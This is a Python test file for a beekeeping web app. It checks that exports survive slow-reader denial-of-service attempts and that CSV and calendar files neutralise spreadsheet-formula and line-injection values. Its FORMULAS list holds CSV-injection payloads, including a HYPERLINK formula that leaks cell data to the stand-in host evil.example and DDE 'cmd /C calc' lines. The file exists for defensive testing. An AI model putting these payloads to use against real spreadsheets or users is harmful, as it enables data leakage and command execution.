"""Exports against an attacker: slow readers that would hold the database (issue 13, item 6),
and files that spreadsheets and calendar apps would misread (item 13)."""

from __future__ import annotations

import asyncio
import csv
import io
import socket
import zipfile
from datetime import date, datetime, timedelta
from decimal import Decimal
from urllib.parse import urlsplit

import icalendar
import vobject
from geoalchemy2.elements import WKTElement
from sqlalchemy import text

from app.keys import export_slots_key
from app.main import create_app
from app.models import Harvest, HarvestShare, Hive, Inspection
from tests.unit.conftest import apiary_of, log_in, make_user
from tests.unit.test_field_log_data import calendar_url

# ---------------------------------------------------------------------------------------------
# Item 6: exports that are never read.

# Big enough that no export of it fits in the socket buffers between server and client: a
# client that reads nothing leaves its export waiting to write, not finished. The notes are
# random hex, so the zip cannot squeeze them either.
HIVES = 1500
NOTE_BLOCKS = 125  # of 32 hex characters: 4 kB per hive, 6 MB per export


async def hives_with_long_notes(db, owner_id: int) -> None:
    await db.execute(
        text(
            """
            INSERT INTO hives (owner_id, apiary_id, name, location, frame_type, notes)
            SELECT :owner, apiary_for(:owner, NULL, ST_SetSRID(ST_MakePoint(13.4, 52.5), 4326),
                                      'Home'),
                   'Hive ' || n, ST_SetSRID(ST_MakePoint(13.4, 52.5), 4326), 'national',
                   (SELECT string_agg(md5(random()::text || n || block), '')
                    FROM generate_series(1, :blocks) AS block)
            FROM generate_series(1, :hives) AS n
            """
        ),
        {"owner": owner_id, "hives": HIVES, "blocks": NOTE_BLOCKS},
    )
    await db.commit()


async def session_cookie(client, email: str) -> str:
    """Log `email` in and return the Cookie header of that session; the client forgets it."""
    client.session.cookie_jar.clear()
    await log_in(client, email)
    cookies = client.session.cookie_jar.filter_cookies(client.make_url("/"))
    client.session.cookie_jar.clear()
    return "; ".join(f"{name}={morsel.value}" for name, morsel in cookies.items())


async def unread_download(client, path: str, cookie: str) -> socket.socket:
    """A client that asks for `path` and then reads nothing: a raw socket with a tiny window."""
    loop = asyncio.get_running_loop()
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setblocking(False)
    await loop.sock_connect(sock, (client.host, client.port))
    request = f"GET {path} HTTP/1.1\r\nHost: {client.host}\r\nCookie: {cookie}\r\n\r\n"
    await loop.sock_sendall(sock, request.encode())
    return sock


async def status_of(sock: socket.socket) -> int:
    """Read only as far as the status line and headers; the body stays unread."""
    loop = asyncio.get_running_loop()
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = await loop.sock_recv(sock, 1024)
        assert chunk, f"connection closed before the headers: {head!r}"
        head += chunk
    return int(head.split(b" ", 2)[1])


async def rest_of(sock: socket.socket) -> int:
    """Read what is left until the server closes or resets the connection: the bytes read."""
    loop = asyncio.get_running_loop()
    received = 0
    try:
        while chunk := await loop.sock_recv(sock, 65536):
            received += len(chunk)
    except ConnectionResetError:
        pass
    return received


def export_app(settings, **limits):
    return create_app(settings.model_copy(update=limits))


async def test_item6_fifty_unread_exports_from_one_account_leave_other_users_pages_answering(
    aiohttp_client, settings, db
):
    # Two pooled connections, and a page that finds none within 5 s answers 503: an export
    # that held a connection while its client did not read would take one of them for good.
    client = await aiohttp_client(
        export_app(
            settings,
            database_pool_size=2,
            database_pool_overflow=0,
            database_pool_timeout_seconds=5,
            exports_per_user=2,
            exports_at_once=4,
        )
    )
    mallory = await make_user(db, name="Mallory", email="mallory@example.org")
    ada = await make_user(db)
    await hives_with_long_notes(db, mallory.id)
    cookie = await session_cookie(client, mallory.email)
    await log_in(client, ada.email)

    paths = ["/exports/hives.csv", "/exports/cityhive-export.zip"] * 25
    downloads = [await unread_download(client, path, cookie) for path in paths]
    try:
        # Generous, yet far below the 30 s the pool used to make a page wait before its 503.
        async with asyncio.timeout(25):
            statuses = await asyncio.gather(*(status_of(sock) for sock in downloads))
            page = await client.get("/hives")
            ready = await client.get("/health/ready")
            own_export = await client.get("/exports/hives.csv")
            own_rows = list(csv.reader(io.StringIO((await own_export.text()).lstrip("\ufeff"))))
        assert sorted(statuses) == [200] * 2 + [429] * 48
        assert page.status == 200
        assert ready.status == 200
        assert own_export.status == 200
        assert own_rows[0][0] == "id"
        assert client.app[export_slots_key].in_use(mallory.id) == 2
    finally:
        for sock in downloads:
            sock.close()


async def test_item6_an_account_past_its_share_of_exports_gets_a_clear_429(
    aiohttp_client, settings, db
):
    client = await aiohttp_client(export_app(settings, exports_per_user=1))
    mallory = await make_user(db, name="Mallory", email="mallory@example.org")
    await hives_with_long_notes(db, mallory.id)
    cookie = await session_cookie(client, mallory.email)
    held = await unread_download(client, "/exports/hives.csv", cookie)
    try:
        async with asyncio.timeout(25):
            assert await status_of(held) == 200
            await log_in(client, mallory.email)
            for path in ("/exports/hives.csv", "/exports/cityhive-export.zip"):
                refused = await client.get(path)
                assert refused.status == 429
                assert int(refused.headers["Retry-After"]) > 0
                assert refused.content_type == "text/html"
                assert "You already have 1 export downloading" in await refused.text()
    finally:
        held.close()


async def test_item6_exports_are_capped_for_the_whole_process(aiohttp_client, settings, db):
    client = await aiohttp_client(export_app(settings, exports_per_user=2, exports_at_once=3))
    mallory = await make_user(db, name="Mallory", email="mallory@example.org")
    eve = await make_user(db, name="Eve", email="eve@example.org")
    ada = await make_user(db)
    for attacker in (mallory, eve):
        await hives_with_long_notes(db, attacker.id)
    downloads = []
    try:
        async with asyncio.timeout(25):
            for attacker in (mallory, eve):
                cookie = await session_cookie(client, attacker.email)
                for _ in range(2):
                    downloads.append(await unread_download(client, "/exports/hives.csv", cookie))
            statuses = [await status_of(sock) for sock in downloads]
            await log_in(client, ada.email)
            refused = await client.get("/exports/cityhive-export.zip")
            page = await client.get("/hives")
        # Eve's two race for the last slot: which of them gets it is the server's order.
        assert sorted(statuses) == [200, 200, 200, 429]
        assert refused.status == 429
        assert "Many exports are downloading right now" in await refused.text()
        assert "Retry-After" in refused.headers
        assert page.status == 200
    finally:
        for sock in downloads:
            sock.close()


async def test_item6_a_stalled_export_reader_is_dropped_after_the_write_timeout(
    aiohttp_client, settings, db
):
    client = await aiohttp_client(
        export_app(settings, exports_per_user=1, export_write_timeout_seconds=0.5)
    )
    mallory = await make_user(db, name="Mallory", email="mallory@example.org")
    await hives_with_long_notes(db, mallory.id)
    cookie = await session_cookie(client, mallory.email)
    stalled = await unread_download(client, "/exports/cityhive-export.zip", cookie)
    try:
        async with asyncio.timeout(25):
            assert await status_of(stalled) == 200
            await client.app[export_slots_key].idle()  # the server gave up on the reader
            received = await rest_of(stalled)
            await log_in(client, mallory.email)
            again = await client.get("/exports/cityhive-export.zip")
            archive = zipfile.ZipFile(io.BytesIO(await again.read()))
        assert received < HIVES * NOTE_BLOCKS * 32  # cut off, not the whole export
        assert again.status == 200  # its slot is free again
        assert set(archive.namelist()) == {
            "inspections.csv",
            "harvests.csv",
            "hives.csv",
            "treatments.csv",
            "hives.geojson",
        }
        rows = list(csv.reader(io.StringIO(archive.read("hives.csv").decode("utf-8-sig"))))
        assert len(rows) == HIVES + 1
    finally:
        stalled.close()


# ---------------------------------------------------------------------------------------------
# Item 13: what spreadsheets and calendar apps make of the files.

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\uff1d1+1",  # full-width equals sign
    "-3.5",  # a note that looks like a number is still text
]
FORMULA_CHARACTERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet may take for a formula: a formula character after any blanks."""
    stripped = cell.lstrip(" \t\r\n\u00a0\u200b\u3000\ufeff")
    return cell.startswith(FORMULA_CHARACTERS) or stripped.startswith(FORMULA_CHARACTERS)


async def account_with_formulas(db, owner_id: int) -> None:
    """One hive, inspection and harvest per formula, each text field carrying it; and numbers
    of the app's own that are negative (a hive west of Greenwich, a frosty inspection)."""
    for index, formula in enumerate(FORMULAS):
        hive = Hive(
            owner_id=owner_id,
            apiary_id=await apiary_of(db, owner_id, formula[:100]),
            name=formula[:100],
            location=WKTElement("POINT(-0.0937 51.5202)", srid=4326),
            frame_type="national",
            notes=formula,
        )
        db.add(hive)
        await db.flush()
        db.add(
            Inspection(
                hive_id=hive.id,
                done_at=datetime(2026, 5, 1, 10, 0) + timedelta(days=index),
                weather_temp_c=Decimal("-3.5"),
                treatment_product=formula[:100],
                weather_conditions=formula[:50],
                actions=[formula[:30]],
                notes=formula,
            )
        )
        harvest = Harvest(
            owner_id=owner_id,
            harvested_on=date(2026, 7, 1) + timedelta(days=index),
            total_kg=Decimal("12.50"),
            honey_kind=formula[:100],
            quality={"note": formula},
            notes=formula,
        )
        db.add(harvest)
        await db.flush()
        db.add(HarvestShare(harvest_id=harvest.id, hive_id=hive.id, kg=Decimal("12.50")))
    await db.commit()


def parsed(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))


async def test_item13_no_csv_cell_runs_as_a_spreadsheet_formula(logged_in, user, db):
    await account_with_formulas(db, user.id)
    tables = {}
    for table in ("hives", "inspections", "harvests"):
        response = await logged_in.get(f"/exports/{table}.csv")
        assert response.status == 200
        tables[table] = parsed(await response.text())
    archive = zipfile.ZipFile(
        io.BytesIO(await (await logged_in.get("/exports/cityhive-export.zip")).read())
    )
    for table in ("hives", "inspections", "harvests"):
        assert parsed(archive.read(f"{table}.csv").decode("utf-8")) == tables[table]

    for table, rows in tables.items():
        assert len(rows) == len(FORMULAS), table
        for row in rows:
            dangerous = {column: cell for column, cell in row.items() if runs_as_formula(cell)}
            numbers = {"longitude", "weather_temp_c"}
            assert set(dangerous) <= numbers, (table, dangerous)
    # Each text comes back whole, behind one apostrophe: the raw value is one character away.
    assert sorted(row["notes"] for row in tables["hives"]) == sorted("'" + f for f in FORMULAS)
    assert sorted(row["notes"] for row in tables["inspections"]) == sorted(
        "'" + f for f in FORMULAS
    )
    assert {row["honey_kind"] for row in tables["harvests"]} == {"'" + f for f in FORMULAS}
    assert all(row["actions"].startswith("'") for row in tables["inspections"])
    assert all(row["quality"].startswith("{") for row in tables["harvests"])
    # The app's own numbers stay numbers, negative ones included.
    assert {float(row["longitude"]) for row in tables["hives"]} == {-0.0937}
    assert {row["weather_temp_c"] for row in tables["inspections"]} == {"-3.5"}


async def test_item13_the_exports_page_says_how_formulas_are_neutralised(logged_in):
    page = await (await logged_in.get("/exports")).text()
    assert "saved with an apostrophe" in page
    assert "remove that first apostrophe" in page


# Every C0 control PostgreSQL can store (all but NUL), DEL, C1 controls and Unicode's line
# separators, around the characters RFC 5545 TEXT escapes.
CONTROLS = "".join(chr(code) for code in [*range(1, 32), 0x7F, 0x80, 0x85, 0x9F]) + "\u2028\u2029"
NOTE = f"Check the super;\rthen feed, 1:1\\syrup{CONTROLS}\r\nend\n\rBEGIN:VEVENT"


async def test_item13_calendar_text_with_control_characters_parses_in_icalendar_and_vobject(
    logged_in, user, db
):
    hive = Hive(
        owner_id=user.id,
        apiary_id=await apiary_of(db, user.id),
        name="Roof\r\nSUMMARY:spoofed",
        location=WKTElement("POINT(13.4 52.5)", srid=4326),
        frame_type="national",
    )
    db.add(hive)
    await db.flush()
    db.add(
        Inspection(
            hive_id=hive.id, scheduled_for=date.today() + timedelta(days=3), schedule_note=NOTE
        )
    )
    await db.commit()
    url = await calendar_url(logged_in)
    logged_in.session.cookie_jar.clear()
    body = await (await logged_in.get(urlsplit(url).path)).text()

    # Lines end in CRLF only, and no other control character but a tab is left.
    assert "\r" not in body.replace("\r\n", "")
    assert "\n" not in body.replace("\r\n", "")
    assert not [c for c in body if (ord(c) < 32 and c not in "\t\r\n") or 0x7F <= ord(c) <= 0x9F]

    # Every line break a newline (CR, LF, CRLF, VT, FF, NEL, U+2028, U+2029), every other
    # control character gone, the tab kept.
    expected_note = "Check the super;\nthen feed, 1:1\\syrup\t" + "\n" * 8 + "end\n\nBEGIN:VEVENT"
    (event,) = icalendar.Calendar.from_ical(body).walk("VEVENT")
    assert str(event["DESCRIPTION"]) == expected_note
    assert str(event["SUMMARY"]) == "Inspect Roof\nSUMMARY:spoofed"

    parsed_feed = vobject.readOne(body)
    (vevent,) = parsed_feed.vevent_list
    assert vevent.description.value == expected_note
    assert vevent.summary.value == "Inspect Roof\nSUMMARY:spoofed"
